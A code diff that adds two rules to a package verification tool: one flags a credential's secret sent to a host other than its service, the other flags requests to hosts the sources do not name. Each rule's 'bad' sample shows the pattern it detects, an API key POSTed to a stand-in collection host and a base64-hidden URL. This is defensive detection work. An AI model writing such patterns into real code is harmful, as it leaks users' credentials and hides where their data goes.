@@ -1,6 +1,7 @@
 import type { RunOperation } from '../../../behaviour/run-package.ts';
 import { docs } from '../../../docs-links.ts';
 import { overOperations } from '../behaviour-rule.ts';
+import { hostOf } from '../request-hosts.ts';
 
 const runsOf = ({ trace }: RunOperation) => trace.runs;
 
@@ -33,6 +34,53 @@ export const secretInError = overOperations({
   fault(operation) {
     const [secret] = runsOf(operation).flatMap(({ secrets }) => secrets);
     return secret === undefined ? undefined : `its error message has the secret ${secret}`;
+  },
+});
+
+export const secretSentElsewhere = overOperations({
+  code: 'behaviour-secret-sent-elsewhere',
+  title: 'Secret of a credential is sent to another host',
+  severity: 'error',
+  why: 'Users give a secret to the service of the credential. Whoever runs the other host can use their account.',
+  fix: 'Send the secret only to the host of the service.',
+  bad: "await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example', body: { apiKey } });",
+  good: "await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.metrics.example', body: { operation } });",
+  docs: docs.credentialFiles,
+  kinds: 'all',
+  fault({ trace: { runs, borrows } }, _, { isOwn, isUnnamed }) {
+    for (const { requests } of runs) {
+      for (const { url, secrets, exposed = [] } of requests) {
+        const host = hostOf(url);
+        if (secrets.length === 0 || isOwn(host)) continue;
+        // A service may have several domains: only what the host of the service gets too, and this one as data, is no doubt.
+        const known = requests.filter((one) => isOwn(hostOf(one.url)));
+        const secret = exposed.find((one) => known.some((request) => request.secrets.includes(one)));
+        const [hidden] = isUnnamed(host) && !borrows ? secrets : [];
+        const sent = secret ?? hidden;
+        if (sent !== undefined)
+          return `it sends the secret ${sent} to ${host}, which is no host of the credential or of the node`;
+      }
+    }
+    return undefined;
+  },
+});
+
+export const unknownHost = overOperations({
+  code: 'behaviour-unknown-host',
+  title: 'Request goes to a host that the sources do not name',
+  severity: 'warning',
+  why: 'Nobody who reads the package, its credentials or its README can tell where data goes.',
+  fix: 'Write the URL into the source, or read it from the credential.',
+  bad: "url: Buffer.from('aHR0cHM6Ly9hcGkuYWNtZS5leGFtcGxl', 'base64').toString()",
+  good: "url: 'https://api.acme.example'",
+  docs: docs.verification,
+  kinds: 'all',
+  fault({ trace: { runs, borrows } }, _, { isOwn, isUnnamed }) {
+    const hosts = runs.flatMap(({ requests }) =>
+      requests.filter(({ secrets }) => secrets.length === 0).map(({ url }) => hostOf(url)),
+    );
+    const host = borrows ? undefined : hosts.find((one) => isUnnamed(one) && !isOwn(one));
+    return host === undefined ? undefined : `it sends a request to ${host}, which no file of the package names`;
   },
 });
 
